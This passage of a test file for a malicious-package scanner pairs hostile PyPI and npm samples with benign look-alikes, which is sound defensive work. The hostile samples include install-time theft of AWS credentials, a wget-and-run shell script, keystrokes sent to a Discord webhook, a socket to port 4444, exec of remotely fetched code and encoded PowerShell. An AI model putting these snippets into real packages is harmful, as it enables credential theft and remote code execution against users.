     (P, "pkg", sdist("pkg", module(f'U = "{b64("a plain sentence of text")}"')))),
    # learning the local address through a public resolver sends nothing (isage-common); a
    # hard-coded server elsewhere, even on a line that also names a resolver, still fires
    ("STATIC-HARDCODED-IP-URL",
     (P, "pkg", sdist("pkg", module('import socket\ns = socket.socket()\ns.connect(("45.61.136.9", 4444))  # 8.8.8.8'))),
     (P, "pkg", sdist("pkg", module('import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.connect(("8.8.8.8", 80))\nip = s.getsockname()[0]')))),
    # chimera-agent's probe: a documentation address (RFC 5737) is routed nowhere
    ("STATIC-HARDCODED-IP-URL",
     (P, "pkg", sdist("pkg", module('import socket\ns = socket.socket()\ns.connect(("198.51.1.7", 9))'))),
     (P, "pkg", sdist("pkg", module('import socket\nprobe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n'
                                    'probe.connect(("192.0.2.1", 9))  # TEST-NET-1: never routed, never reached')))),
    # ---- metadata ----
    ("META-TYPOSQUAT",
     (P, "reqeusts", sdist("reqeusts", module("X = 1"))),
     (P, "requests", sdist("requests", module("X = 1")))),
    ("META-EMPTY-DESCRIPTION",
     (P, "pkg", sdist("pkg", module("X = 1"), summary="test")),
     (P, "pkg", sdist("pkg", module("X = 1"), summary="Test helpers for Django views"))),
    ("META-COPIED-DESCRIPTION",
     (P, "fancyhttp", sdist("fancyhttp", module("X = 1"), summary=REQUESTS_SUMMARY)),
     (P, "requests", sdist("requests", module("X = 1"), summary=REQUESTS_SUMMARY))),
    ("META-NEW-INSTALL-HOOK",
     (N, "jspkg", npm("jspkg", {"index.js": "", "setup.js": ""}, scripts={"postinstall": "node setup.js"}),
      {"metadata": {"previous_version": "0.9.0", "previous_had_install_hook": False}}),
     (N, "jspkg", npm("jspkg", {"index.js": "", "setup.js": ""}, scripts={"postinstall": "node setup.js"}),
      {"metadata": {"previous_version": "0.9.0", "previous_had_install_hook": True}})),
    ("META-SINGLE-NEW-RELEASE",
     (P, "pkg", sdist("pkg", module("X = 1")),
      {"metadata": {"release_count": 1, "first_release": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())}}),
     (P, "pkg", sdist("pkg", module("X = 1")), {"metadata": {"release_count": 40, "first_release": "2015-01-01T00:00:00Z"}})),
    ("META-SHADOWS-POPULAR-MODULE",
     (P, "netutils-extra", sdist("netutils-extra", {"setup.py": SETUP_TAIL, "requests/__init__.py": "X = 1"})),
     (P, "requests", sdist("requests", {"setup.py": SETUP_TAIL, "requests/__init__.py": "X = 1"}))),
    # a close typosquat (word swap in a long name) is high on its own; a real package is silent
    ("META-TYPOSQUAT",
     (N, "loadsh", npm("loadsh", {"index.js": ""})),
     (N, "lodash", npm("lodash", {"index.js": ""}))),
    # throw-away mailbox; the look-alike is a real author address at a mail provider (psutil's)
    ("META-THROWAWAY-EMAIL",
     (P, "pkg", sdist("pkg", module("X = 1"), headers="Author-email: Dev <dev7731@mailinator.com>\n")),
     (P, "pkg", sdist("pkg", module("X = 1"), headers="Author-email: Giampaolo Rodola <g.rodola@gmail.com>\n"))),
    ("META-THROWAWAY-EMAIL",
     (N, "jspkg", npm("jspkg", {"index.js": ""}, extra={"author": "x <x@yopmail.com>"})),
     (N, "jspkg", npm("jspkg", {"index.js": ""}, extra={"author": "Sindre Sorhus <sindresorhus@gmail.com> (https://sindresorhus.com)"}))),
    ("META-THROWAWAY-EMAIL",
     (P, "pkg", sdist("pkg", module("X = 1"), headers="Author-email: test@test.com\n")),
     (P, "pkg", sdist("pkg", module("X = 1"), headers="Author-email: Kenneth Reitz <me@kennethreitz.org>\n"))),
    # dependencies from an address, not the registry; look-alikes: ordinary pins, npm's file:
    ("META-URL-DEPENDENCY",
     (P, "pkg", sdist("pkg", {"setup.py": "from setuptools import setup\nsetup(name='pkg', install_requires=['helper @ http://203.0.113.7/helper-1.0.tar.gz'])\n", "pkg/__init__.py": ""})),
     (P, "pkg", sdist("pkg", {"setup.py": "from setuptools import setup\nsetup(name='pkg', install_requires=['requests>=2.31', 'urllib3<3'])\n", "pkg/__init__.py": ""}))),
    ("META-URL-DEPENDENCY",
     (N, "jspkg", npm("jspkg", {"index.js": ""}, extra={"dependencies": {"helper": "http://203.0.113.7/helper.tgz"}})),
     (N, "jspkg", npm("jspkg", {"index.js": ""}, extra={"dependencies": {"debug": "^4.3.4", "local": "file:./local"},
                                                        "devDependencies": {"x": "github:user/x"}}))),
    # a program named as an image; the look-alike is a compiled extension module (a library)
    ("META-BUNDLED-BINARY",
     (P, "pkg", sdist("pkg", module("X = 1"), binary={"pkg/logo.png": elf(2)})),
     (P, "pkg", sdist("pkg", module("X = 1"), binary={"pkg/_speedups.cpython-311-x86_64-linux-gnu.so": elf(3)}))),
    ("META-BUNDLED-BINARY",
     (N, "jspkg", npm("jspkg", {"index.js": ""}, binary={"lib/data.json": elf(2)})),
     (N, "jspkg", npm("jspkg", {"index.js": ""}, binary={"prebuilds/linux-x64/addon.node": elf(3)}))),
    ("COMBO-TYPOSQUAT-INSTALL-NETWORK",
     (P, "reqeusts", sdist("reqeusts", setup_py('import requests\nrequests.get("https://stats.example/ping")'))),
     (P, "reqeusts", sdist("reqeusts", setup_py("import os\nprint(os.getcwd())")))),
    ("COMBO-INSTALL-NETWORK-CREDENTIALS",
     (P, "pkg", sdist("pkg", setup_py('import os, requests\nrequests.post("https://stats.example/c", data=open(os.path.expanduser("~/.aws/credentials")).read())'))),
     (P, "pkg", sdist("pkg", setup_py('import os, requests\nrequests.get("https://stats.example/ping")\ncfg = os.path.expanduser("~/.config/pkg/config.toml")')))),
]

STATIC_FAMILIES = ("static", "metadata")


def _case_ids():
    return [c[0] for c in CASES]


def test_every_static_and_metadata_rule_has_a_case():
    from verdict.test_patterns import CASES as PATTERN_CASES
    rules = {r.id for r in load_rules() if r.family in STATIC_FAMILIES}
    covered = {c[0] for c in CASES} | {c[0] for c in PATTERN_CASES}
    assert rules - covered == set(), "rules without a malicious/benign test case"


def _judge(judged, spec):
    eco, name, data, *rest = spec
    return judged(data, eco, name, **(rest[0] if rest else {}))


@pytest.mark.parametrize("rule,malicious,benign", CASES, ids=_case_ids())
def test_rule_fires_on_malicious_and_not_on_lookalike(judged, rule, malicious, benign):
    bad = _judge(judged, malicious)
    assert rule in bad["rules_fired"], bad["findings"]
    finding = next(f for f in bad["findings"] if f["rule"] == rule)
    assert finding["message"] and finding["severity"] in ("low", "medium", "high", "critical")
    if finding["source"] == "static" and "combines" not in finding["evidence"]:
        assert finding["evidence"].get("file")          # code evidence names the file…
        if "role" in finding["evidence"]:               # a code finding…
            assert finding["evidence"]["line"] >= 1     # …gives the line and an excerpt
            assert finding["evidence"]["excerpt"]
    good = _judge(judged, benign)
    assert rule not in good["rules_fired"], good["findings"]


def test_a_keyboard_hook_alone_is_a_macro_tool_and_sending_the_keys_is_not(judged):
    # pytinytask-style recorder: the capability is its purpose
    hook = ("import keyboard\nEVENTS = []\ndef on_key_event(e):\n    EVENTS.append((e.name, e.time))\n"
            "def record():\n    keyboard.hook(on_key_event)\n")
    v = judged(sdist("pkg", module(hook)), P, "pkg")
    assert "STATIC-KEYLOGGER" in v["rules_fired"] and v["label"] == "benign", v
    # the same hook whose keys go to a webhook
    v = judged(sdist("pkg", module(hook + "import requests\ndef flush():\n    requests.post("
                                   "'https://discord.com/api/webhooks/1/x', json={'k': EVENTS})\n")), P, "pkg")
    assert v["label"] == "malicious", v


# websocat (abridged): the install script asks GitHub's API for the release asset and fetches it
WEBSOCAT_INSTALL = {
    "index.js": "module.exports = require('./download-websocat');\n",
    "install.js": "require('./download-websocat')();\n",
    "download-websocat.js": "const bent = require('bent');\nconst downloadFile = require('./download-file');\n"
                            "module.exports = async () => {\n  const rel = await bent('json')("
                            "`https://api.github.com/repos/vi/websocat/releases/tags/v1.8.0`);\n"
                            "  await downloadFile(rel.assets[0].browser_download_url, __dirname);\n};\n",
    "download-file.js": "const http = require('follow-redirects').https;\nmodule.exports = (url, dir) => new Promise((ok) => {\n"
                        "  http.get(url).on('response', (res) => res.pipe(require('fs').createWriteStream(dir + '/bin')).on('finish', ok));\n});\n",
}
# vanish/telemetry.py (abridged): an opt-out telemetry endpoint kept out of plain sight
VANISH_TELEMETRY = ("import base64, json, platform, urllib.request\n"
                    f"_EP = b\"{b64('https://telemetry-4676.us-central1.run.app/api/insights')}\"\n"
                    "def send(event):\n    data = json.dumps({'event': event, 'os': platform.system()}).encode()\n"
                    "    urllib.request.urlopen(urllib.request.Request(base64.b64decode(_EP).decode(), data=data))\n")


def test_a_bypassed_policy_alone_is_for_review_and_a_hidden_encoded_one_is_not(judged):
    v = judged(sdist("pkg", module('import subprocess\ndef run(script):\n    subprocess.run(["powershell", "-ExecutionPolicy", "Bypass", "-File", script])\n')), P, "pkg")
    assert v["label"] == "benign", v
    v = judged(sdist("pkg", module("import subprocess\ndef run(b64):\n    subprocess.run(f'powershell.exe -ExecutionPolicy Bypass -EncodedCommand {b64}')\n"
                                   "run('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')\n")), P, "pkg")
    assert "STATIC-POWERSHELL-HIDDEN" in v["rules_fired"] and v["label"] == "malicious", v


def test_network_at_install_or_a_hidden_address_alone_is_for_review_not_a_verdict(judged):
    v = judged(npm("websocat", WEBSOCAT_INSTALL, scripts={"install": "node install.js"}), N, "websocat")
    assert "STATIC-INSTALL-HOOK-NETWORK" in v["rules_fired"] and v["label"] == "benign", v
    v = judged(sdist("pkg", module(VANISH_TELEMETRY, "pkg/telemetry.py")), P, "pkg")
    assert "STATIC-ENCODED-URL" in v["rules_fired"] and v["label"] == "benign", v


def test_what_the_network_is_used_for_at_install_still_makes_the_verdict(judged):
    # the same installer fetching a script and running it at install (maratlib's shape)
    files = {**WEBSOCAT_INSTALL, "install.js": "const { execSync } = require('child_process');\n"
             "execSync('wget https://files.example/s.sh -O s.sh && chmod 777 s.sh && bash s.sh');\n"}
    v = judged(npm("websocat", files, scripts={"install": "node install.js"}), N, "websocat")
    assert v["label"] == "malicious", v
    # the hidden address used to fetch code that is executed
    v = judged(sdist("pkg", module(VANISH_TELEMETRY + "exec(urllib.request.urlopen(base64.b64decode(_EP).decode()).read())\n",
                                   "pkg/telemetry.py")), P, "pkg")
    assert v["label"] == "malicious", v



def _wheel(files: dict[str, str]) -> bytes:
    import io
    import zipfile
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("netutils_extra-1.0.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: netutils-extra\nVersion: 1.0.0\n")
        z.writestr("netutils_extra-1.0.0.dist-info/WHEEL", "Wheel-Version: 1.0\n")
        for path, text in files.items():
            z.writestr(path, text)
    return buf.getvalue()


def test_a_module_shadows_only_under_the_name_python_imports(judged):
    rule = "META-SHADOWS-POPULAR-MODULE"
    # a wheel's src/requests installs as src.requests (token-optimise); a capitalised
    # Requests is never what `import requests` loads (genailib's LangChaiN)
    v = judged(_wheel({"src/requests/__init__.py": "X = 1"}), P, "netutils-extra")
    assert rule not in v["rules_fired"], v
    v = judged(sdist("netutils-extra", {"setup.py": SETUP_TAIL, "Requests/__init__.py": "X = 1"}), P, "netutils-extra")
    assert rule not in v["rules_fired"], v
    # the same module at a wheel's top, or in an sdist's src/ layout, does shadow it
    v = judged(_wheel({"requests/__init__.py": "X = 1"}), P, "netutils-extra")
    assert rule in v["rules_fired"], v
    v = judged(sdist("netutils-extra", {"setup.py": SETUP_TAIL, "src/requests/__init__.py": "X = 1"}), P, "netutils-extra")
    assert rule in v["rules_fired"], v
    # an sdist that carries a dist-info folder is still built from its src/ layout
    v = judged(sdist("netutils-extra", {"setup.py": SETUP_TAIL, "src/requests/__init__.py": "X = 1",
                                        "netutils_extra.dist-info/METADATA": "Name: netutils-extra\n"}), P, "netutils-extra")
    assert rule in v["rules_fired"], v



def test_naming_its_own_server_by_address_at_import_is_for_review_calling_out_is_not(judged):
    # oixa_protocol/__init__.py (abridged): the service's address in the docstring and a default
    sdk = ('"""OIXA client.\n\n    tools = OIXAToolkit(base_url="http://198.51.100.34:8000").get_tools()\n'
           'Server: http://198.51.100.34:8000\n"""\nOIXA_BASE_URL = "http://198.51.100.34:8000"\n')
    v = judged(sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": sdk}), P, "pkg")
    assert "STATIC-IP-URL-INSTALL" in v["rules_fired"] and v["label"] == "benign", v
    v = judged(sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": sdk + "import requests, socket\n"
                             "requests.post(\"http://198.51.100.34:8000/c\", data=socket.gethostname())\n"}), P, "pkg")
    assert v["label"] == "malicious", v
